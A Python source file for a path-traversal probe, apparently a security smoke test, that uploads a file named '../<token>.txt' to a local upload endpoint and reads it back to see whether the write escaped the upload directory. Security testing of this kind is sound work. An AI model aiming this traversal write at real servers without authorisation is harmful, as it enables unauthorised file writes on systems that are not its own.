"""Path-traversal probe for a local file-upload endpoint.

The probe writes a random token to ``../<token>.txt`` through ``POST /file``
and then reads ``/file/<token>.txt`` back, printing both responses. It is a
manual smoke test: every failure propagates to the caller.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import random
import string
import sys
from dataclasses import dataclass
from typing import Any, Optional, TextIO

import httpx
from structlog.contextvars import bind_contextvars, unbind_contextvars

from .logging_config import configure_logging
from .schemas import FILE_ROUTE, build_read_target, build_upload_form

LOGGER = logging.getLogger("traversal_probe.probe")

DEFAULT_TARGET_URL = "http://localhost:8080"
FORM_CONTENT_TYPE = "application/x-www-form-urlencoded"

BASE36_DIGITS = string.digits + string.ascii_lowercase
TOKEN_OFFSET = 7
TOKEN_LENGTH = 5


def to_base36(value: float, digits: int) -> str:
    """Render a non-negative float as ``<integer>.<fraction>`` in base 36."""

    if value < 0:
        raise ValueError(f"value must be non-negative, got {value}")

    integer = int(value)
    fraction = value - integer

    whole = ""
    while True:
        integer, remainder = divmod(integer, 36)
        whole = BASE36_DIGITS[remainder] + whole
        if integer == 0:
            break

    tail = []
    for _ in range(digits):
        fraction *= 36
        digit = min(int(fraction), 35)
        tail.append(BASE36_DIGITS[digit])
        fraction -= digit
    return f"{whole}.{''.join(tail)}"


def generate_token(rng: Optional[random.Random] = None) -> str:
    """Return a short lowercase base-36 token.

    ``random() + 1`` always renders as ``"1."`` followed by fraction digits,
    so slicing at a fixed offset yields a fixed-length alphanumeric string.
    """

    source = rng if rng is not None else random
    rendered = to_base36(source.random() + 1.0, TOKEN_OFFSET + TOKEN_LENGTH - 2)
    return rendered[TOKEN_OFFSET:TOKEN_OFFSET + TOKEN_LENGTH]


@dataclass
class ProbeConfig:
    """Runtime configuration for the probe."""

    target_url: str = DEFAULT_TARGET_URL


@dataclass
class ProbeResult:
    """Outcome of a single probe run."""

    token: str
    write_status: int
    write_response: Any
    read_status: int
    read_response: str


class Probe:
    """Sends one traversal write followed by one sibling read."""

    def __init__(
        self,
        config: ProbeConfig,
        *,
        transport: Optional[httpx.AsyncBaseTransport] = None,
        rng: Optional[random.Random] = None,
        out: Optional[TextIO] = None,
    ) -> None:
        self.config = config
        self._client = httpx.AsyncClient(base_url=self.config.target_url.rstrip("/"), transport=transport)
        self._rng = rng
        self._out = out

    async def run(self) -> ProbeResult:
        """Issue the write attempt, then the read attempt, strictly in order."""

        token = generate_token(self._rng)
        bind_contextvars(token=token)
        LOGGER.info("Probing %s with token %s", self.config.target_url, token)
        try:
            write_status, write_response = await self._attempt_write(token)
            self._emit(json.dumps(write_response))

            read_status, read_response = await self._attempt_read(token)
            self._emit(read_response)
        finally:
            unbind_contextvars("token")
            await self._client.aclose()

        return ProbeResult(
            token=token,
            write_status=write_status,
            write_response=write_response,
            read_status=read_status,
            read_response=read_response,
        )

    async def _attempt_write(self, token: str) -> tuple[int, Any]:
        form = build_upload_form(token)
        LOGGER.info("Attempting write to %s", form.name)
        try:
            response = await self._client.post(
                FILE_ROUTE,
                data=form.as_form(),
                headers={"Content-Type": FORM_CONTENT_TYPE},
            )
        except httpx.HTTPError as exc:
            LOGGER.error("Write attempt failed: %s", exc)
            raise

        LOGGER.info("Write attempt answered with status %s", response.status_code)
        try:
            payload = response.json()
        except json.JSONDecodeError as exc:
            LOGGER.error("Write response is not JSON: %s", exc)
            raise
        return response.status_code, payload

    async def _attempt_read(self, token: str) -> tuple[int, str]:
        target = build_read_target(token)
        LOGGER.info("Attempting read of %s", target.path)
        try:
            response = await self._client.get(target.path)
        except httpx.HTTPError as exc:
            LOGGER.error("Read attempt failed: %s", exc)
            raise

        LOGGER.info("Read attempt answered with status %s", response.status_code)
        return response.status_code, response.text

    def _emit(self, line: str) -> None:
        print(line, file=self._out or sys.stdout, flush=True)


async def _async_main(config: ProbeConfig) -> None:
    probe = Probe(config)
    await probe.run()


def parse_args(argv: Optional[list[str]] = None) -> ProbeConfig:
    parser = argparse.ArgumentParser(description="Path-traversal probe for a local file-upload endpoint")
    parser.add_argument(
        "--target",
        default=os.getenv("PROBE_TARGET_URL", DEFAULT_TARGET_URL),
        help="Base URL of the server under test, e.g. http://localhost:8080",
    )
    parser.add_argument(
        "--log-level",
        default="WARNING",
        help="Logging level (DEBUG, INFO, WARNING, ERROR, CRITICAL)",
    )

    args = parser.parse_args(argv)
    configure_logging(getattr(logging, args.log_level.upper(), logging.WARNING))

    return ProbeConfig(target_url=args.target)


def main(argv: Optional[list[str]] = None) -> None:
    config = parse_args(argv)
    try:
        asyncio.run(_async_main(config))
    except KeyboardInterrupt:
        LOGGER.warning("Probe interrupted by user")
        raise


if __name__ == "__main__":
    main()
